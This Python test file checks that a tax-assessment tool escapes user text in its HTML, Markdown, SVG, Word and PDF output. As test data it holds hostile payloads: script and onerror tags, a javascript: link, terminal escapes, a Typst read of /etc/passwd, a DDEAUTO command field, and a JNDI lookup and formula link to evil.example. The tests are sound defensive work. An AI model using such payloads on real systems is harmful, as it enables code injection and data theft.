"""Nothing that a person writes is anything but text in what is made of it: no markup, link, field, code or command.

Families of hostile text stand in every field that takes free text. What is made of them must have the shape, element by
element and line by line, of what is made of harmless text, and hold no character that commands.
"""

from __future__ import annotations

import functools
import io
import json
import re
import zipfile
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from click.testing import Result

import caprev
from caprev import Assessor, limits, record
from caprev.characters import shown
from caprev.documents.content import docx, html, markdown, model
from caprev.documents.content.escaping import escape
from caprev.documents.drafts.make import Draft
from caprev.documents.reports import memorandum
from caprev.drawing import maps
from caprev.files import reading
from caprev.reasoning.analysis import Assessment

Run = Callable[..., Result]

FAMILIES = {
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)></p></li><b>&lt;&#60;\"'>",
    "svg": "<svg onload=alert(1)></svg>]]><style>*{}</style><!-- <?xml?>",
    "markdown": "[x](javascript:alert(1)) ![i](http://evil.example/i) `c` ``` *b* _i_ # h | t ~~s~~ <http://e.example>",
    "lines": "x\n# Heading\n- item\n1. one\n> quote\n```\ncode\n---\n| a | b |\n|---|---|\n[r]: http://evil.example",
    "addresses": "http://evil.example HTTPS://evil.example/x www.evil.example mailto:a@evil.example ftp://evil.example",
    "terminal": "\x1b]0;owned\x07\x1b[2J\x9b31m\x08\x7f\x00\r",
    "direction": "\u202e\u2066\u200f\u061c\ufeff\ufffe\uffff\U000e0041\U0001fffe\u2028\ufff9",
    "typst": '"; #read("/etc/passwd") #let x = 1 $x$ \\u{41} #image("x.png") #link("http://evil.example") // /* @x <l>',
    "word": '</w:t></w:r><w:fldSimple w:instr="DDEAUTO c:\\cmd"/>{ INCLUDEPICTURE "http://evil.example" } &amp; ]]>',
    "formula": '=HYPERLINK("http://evil.example";"x")',
    "template": "{name} {0} {^statham} {@x} {{7*7}} ${jndi:ldap://evil.example} %s %(x)s $x @import",
}
HARMLESS = "harmless"


def drafted(assessor: Assessor, assessment: Assessment, found: reading.Source, form: str, template: str) -> Draft:
    """A draft as the command makes it."""
    return record.drafted(assessor, found, record.requested(assessment, "draft", form, template=template), assessment)


def hostile(payload: str) -> reading.Source:
    """A matter with a payload in every field of free text, each named for its field."""

    def told(field: str) -> str:
        return f"{field} {payload}"

    def named(field: str) -> str:
        return told(field)[: limits.ID - 20]  # some characters are longer as they are shown

    matter: dict[str, Any] = {key: told(key) for key in ("title", "period", "scheme", "notes")}
    matter["id"] = named("id")
    facts: dict[str, Any] = {
        "taxpayer.kind": {
            "value": "individual",
            "source": told("source"),
            "note": told("note"),
            "standing": "disputed",
        },
        "development.lots": {"value": 30, "source": told("letter"), "note": told("remark"), "standing": "assumed"},
        "acquisition.date": {"value": "1990", "source": told("deed")},
    }
    parcels = [{"id": named("first"), "title": told("north")}, {"id": named("second"), "title": told("south")}]
    matter["questions"] = [told("why"), {"text": told("how")}]
    return reading.parse(json.dumps({"matter": matter, "facts": facts, "parcels": parcels}), "hostile.json")


@functools.cache
def made(assessor: Assessor, payload: str) -> dict[str, str]:
    """Everything that is made of a matter, by the kind of document, as text; a Word file by its parts."""
    found = hostile(payload)
    assessment = assessor.assess(assessor.matter(found))
    reasons = caprev.arguments(assessment)
    outputs = {
        "text": memorandum.render(assessment, reasons),
        "detail text": memorandum.render(assessment, reasons, detail=True),
        "reasons html": html.render(memorandum.page(assessment, reasons, pictures=True)),
        "reasons md": markdown.render(memorandum.page(assessment, reasons)),
    }
    outputs |= {f"{kind} svg": maps.picture(kind, assessment.analyses[0]) for kind in maps.KINDS}
    for template, form in (("ruling", "md"), ("advice", "html"), ("debate", "docx")):
        content = drafted(assessor, assessment, found, form, template).content
        outputs |= parts(content) if form == "docx" else {f"{template} {form}": content.decode()}
    return outputs


def parts(content: bytes) -> dict[str, str]:
    """The parts of a Word file, but for its pictures: bitmaps of the drawings that are looked at as such."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        names = [name for name in archive.namelist() if not name.endswith(".png")]
        return {f"{name} xml": archive.read(name).decode() for name in names}


# Shapes


class _Tags(HTMLParser):
    """The elements of a page with the names of their attributes; drawings are read as XML elsewhere."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.drawing = False

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.drawing = self.drawing or tag == "svg"
        if not self.drawing:
            self.found.append(" ".join([tag, *(f"{name}={value}" for name, value in attributes if name != "class")]))

    def handle_endtag(self, tag: str) -> None:
        self.drawing = self.drawing and tag != "svg"


def page(text: str) -> list[str]:
    tags = _Tags()
    tags.feed(text)
    assert not {tag.split()[0] for tag in tags.found} & {"script", "img", "iframe", "object", "form", "input", "link"}
    assert not [tag for tag in tags.found if re.search(r" (on\w+|src|style|srcdoc)=", tag)]
    assert all(link.startswith("#") for tag in tags.found for link in re.findall(r"href=(\S*)", tag))
    return tags.found


def tree(text: str) -> list[str]:
    """The elements of XML, with the names of their attributes."""
    return [" ".join([element.tag, *sorted(element.attrib)]) for element in ElementTree.fromstring(text).iter()]


def lines(text: str) -> list[str]:
    """How the lines of Markdown begin, which is what they are; within them nothing is marked up."""
    assert not re.search(r"(?<!\\)(?:\\\\)*<(?!\\)[a-zA-Z/!?]", text), "an element"
    assert not re.search(r"(?<!\\)(?:\\\\)*\]\(", text), "a link"
    assert not re.search(r"(?i)\b(?:https?:|ftp:|mailto:|www\.)", text), "an address that becomes a link"
    return [re.match(r"\s*(?:[-*+>|] ?|#{1,6} |\d+[.)] |\[\^\d+\]:|```|~~~)*", line)[0] for line in text.splitlines()]  # type: ignore[index]


def drawn(text: str) -> list[str]:
    """The kinds of element of a picture: how many texts there are depends on their length."""
    elements = tree(text)
    assert not [tag for tag in elements if re.search(r" (on\w+|\S*href)", tag)]
    return sorted({element.split("}")[1].split()[0] for element in elements})


SHAPES: dict[str, Callable[[str], list[str]]] = {"html": page, "xml": tree, "md": lines, "svg": drawn}


@pytest.mark.parametrize("family", FAMILIES)
def test_what_a_person_writes_is_text_in_every_document(family: str, assessor: Assessor) -> None:
    """Same elements, same kinds of line, whatever is written; what commands is shown by its escape."""
    harmless = made(assessor, HARMLESS)
    found = made(assessor, FAMILIES[family])
    assert set(found) == set(harmless)
    for name, text in found.items():
        assert shown(text) == text, name
        shape = SHAPES.get(name.rsplit(" ", 1)[-1])
        if shape:
            assert shape(text) == shape(harmless[name]), name


@pytest.mark.parametrize("family", ["terminal", "direction"])
def test_nothing_of_it_is_lost(family: str, assessor: Assessor) -> None:
    """Every character is there to be seen, in full or as its escape, in every document that shows the field."""
    squeezed = "".join(shown(FAMILIES[family]).split())
    for name, text in made(assessor, FAMILIES[family]).items():
        if name.endswith(("text", "md", "html")):
            plain = re.sub(r"\\(?=[^A-Za-z0-9\s])", "", text) if name.endswith("md") else text
            assert f"north{squeezed}"[:40] in "".join(plain.split()).replace("&#x27;", "'"), name


def test_no_paragraph_of_a_person_is_a_list_or_a_heading(assessor: Assessor) -> None:
    """Paragraphs of notes are paragraphs, however they begin."""
    listed, other = ("- item", "+ item", "* item", "1. one", "2) two"), ("# top", "> quote", "---", "===")
    starts = [*listed, *other, "    code", "```", "| a"]
    found = reading.parse(json.dumps({"matter": {"notes": "\n\n".join(starts)}}), "notes.json")
    assessment = assessor.assess(assessor.matter(found))
    text = drafted(assessor, assessment, found, "md", "ruling").content.decode()
    shown_lines = [line for line in text.splitlines() if re.sub(r"\\", "", line).strip() in map(str.strip, starts)]
    assert len(shown_lines) == len(starts)
    assert not [line for line in shown_lines if re.match(r"[-+*#>=`|]|\d+[.)]|    ", line)]


@pytest.mark.parametrize("first", ["html", "lines", "typst"])
def test_a_pdf_holds_no_link_action_or_file(first: str, assessor: Assessor) -> None:
    """Typst reads none of it: no code is run, no file read, no address becomes a link.

    A document costs more than what is looked for in it, so all families stand in one; which of them is first, and so
    begins what another might have ended, differs.
    """
    pytest.importorskip("typst")
    pypdf = pytest.importorskip("pypdf")
    at = list(FAMILIES).index(first)
    found = hostile(" ".join([*FAMILIES.values()][at:] + [*FAMILIES.values()][:at]))
    assessment = assessor.assess(assessor.matter(found))
    content = drafted(assessor, assessment, found, "pdf", "ruling").content
    reader = pypdf.PdfReader(io.BytesIO(content))
    text = " ".join(text.extract_text() for text in reader.pages)
    assert "root:" not in text
    for mark in ("/URI", "/JavaScript", "/Launch", "/OpenAction", "/EmbeddedFiles", "/SubmitForm"):
        assert mark.encode() not in content, mark
        assert mark not in reader.trailer["/Root"], mark
    for sheet in reader.pages:
        for note in sheet.get("/Annots", ()):
            action = note.get_object().get("/A")
            assert action is None or action.get_object().get("/S") == "/GoTo"


@pytest.mark.parametrize("command", [["assess"], ["assess", "--detail"], ["assess", "--format", "json"], ["argue"],
    ["missing"], ["flips"], ["whatif", "{file}", "taxpayer.retired=true"], ["compare", "{file}", "{file}"],
    ["cases", "nearest"]])  # fmt: skip
def test_no_command_passes_on_what_commands(command: list[str], run: Run, tmp_path: Path) -> None:
    """All output of all commands, with what is written into messages, holds characters that are read."""
    path = tmp_path / "hostile.json"
    path.write_text(hostile(FAMILIES["terminal"] + FAMILIES["direction"]).text, "utf-8")
    arguments = [part.replace("{file}", str(path)) for part in command]
    result = run(*arguments, *(() if str(path) in arguments else (path,)))
    assert result.exit_code in (0, 2, 3), result.output
    for text in (result.stdout, result.stderr):
        assert shown(text) == text


def test_no_name_on_the_command_line_commands(run: Run) -> None:
    """What was typed is repeated in messages by its escapes."""
    good = "cases/au-land/examples/farm-subdivision.yaml"
    for arguments in (["assess", "\x1b[2J\u202e.yaml"], ["assess", good, "--parcel", "\x1b[2J\u202e"],
                      ["assess", good, "--position", "\x1b[2J\u202e"], ["assess", good, "--without", "\x1b[2J\u202e"],
                      ["rules", "show", "\x1b[2J\u202e"], ["cases", "show", "\x1b[2J\u202e"]):  # fmt: skip
        result = run(*arguments)
        assert result.exit_code == 2
        assert shown(result.stderr) == result.stderr
        assert "\\x1b[2J" in result.stderr


def every_character() -> Iterator[str]:
    """One of every kind of character, and all that command."""
    yield from map(chr, range(0x20))
    yield from map(chr, range(0x7F, 0x3000, 7))
    yield from map(
        chr, (0xD800, 0xDCE9, 0xDFFF, 0xE000, 0xFDD0, 0xFEFF, 0xFFF9, 0xFFFD, 0xFFFE, 0xFFFF, 0x1F600, 0x1FFFE)
    )
    yield from map(chr, (0xE0001, 0xE0041, 0xE0100, 0x10FFFD, 0x10FFFF, 0x20DD, 0x0301, 0x200D, 0x0E33, 0x5317))


def test_every_kind_of_character_is_shown_in_every_format(assessor: Assessor) -> None:
    """Characters that no font has, marks that fit no letter, and code points that are none: no document fails."""
    pytest.importorskip("typst")
    text = shown(" ".join(f"z{character}" for character in every_character()))
    data = {
        "matter": {"id": "odd", "title": text[:900]},
        "taxpayer": {"kind": {"value": "individual", "source": text, "standing": "disputed"}},
        "parcels": [{"id": text[-150:], "title": text[900:1_700]}, {"id": "b"}],
    }
    found = reading.parse(json.dumps(data), "odd.json")
    assessment = assessor.assess(assessor.matter(found))
    for form in ("pdf", "docx"):
        content = drafted(assessor, assessment, found, form, "debate").content
        assert content.startswith(b"%PDF" if form == "pdf" else b"PK")
        for part in parts(content).values() if form == "docx" else ():
            ElementTree.fromstring(part)
    assert ElementTree.fromstring(maps.picture("balance", assessment.analyses[0])) is not None


def test_a_mark_that_no_font_sets_on_its_letter_is_written_as_its_code(assessor: Assessor) -> None:
    """The letter stays; the mark is told by its code, so that nothing is lost."""
    pytest.importorskip("typst")
    pypdf = pytest.importorskip("pypdf")
    found = reading.parse(json.dumps({"matter": {"title": "Farm z\u20dd sold\ufeff"}}), "odd.json")
    assessment = assessor.assess(assessor.matter(found))
    content = drafted(assessor, assessment, found, "pdf", "ruling").content
    text = " ".join(sheet.extract_text() for sheet in pypdf.PdfReader(io.BytesIO(content)).pages)
    assert "Farm z[U+20DD] sold\\ufeff" in "".join(text.split("\u200b"))


def test_a_paragraph_longer_than_typst_sets_in_one_go_is_set(assessor: Assessor) -> None:
    """A text of 100,000 characters without a paragraph, of which one font makes more glyphs than typst can count."""
    pytest.importorskip("typst")
    fact = {"value": "individual", "source": ". " * 40_000, "standing": "disputed"}
    found = reading.parse(json.dumps({"taxpayer": {"kind": fact}}), "long.json")
    assessment = assessor.assess(assessor.matter(found))
    made = drafted(assessor, assessment, found, "pdf", "debate")
    assert made.content.startswith(b"%PDF")


def test_documents_made_by_programs_are_escaped_too() -> None:
    """Text that never was in a file goes through the same escapes where it becomes markup."""
    odd = "a\x00\x1b\ud800\ufffe\u202e<b>"
    assert docx.escape(odd) == "a\\x00\\x1b\\ud800\\ufffe\\u202e&lt;b&gt;"
    assert escape(odd) == "a\\\\x00\\\\x1b\\\\ud800\\\\ufffe\\\\u202e\\<b\\>"
    sheet = model.sheet("<b>", [*model.paragraphs("<svg onload=x>"), model.table(["<i>"], [["<u>|"]])])
    assert page(html.render(sheet)) == page(html.render(sheet).replace("&lt;", ""))
    assert not re.search(r"(?<!\\)<", markdown.render(sheet))


@pytest.mark.parametrize("text", ["`<svg onload=x>", "a` <svg> `b", "``<svg>``", "`<svg>`", "\\`<b>", "`a`<svg>`b`"])
def test_a_backtick_opens_no_way_for_markup(text: str) -> None:
    """Only a name between two backticks is code; a backtick that a person wrote is a backtick."""
    found = markdown.render(model.sheet("", model.paragraphs(f"{text}. Turned on `business` and `a/b.c`")))
    assert not re.search(r"(?<!\\)<", found)
    assert "`business` and `a/b.c`" in found
    assert "<svg" not in found.replace("\\<svg", "")
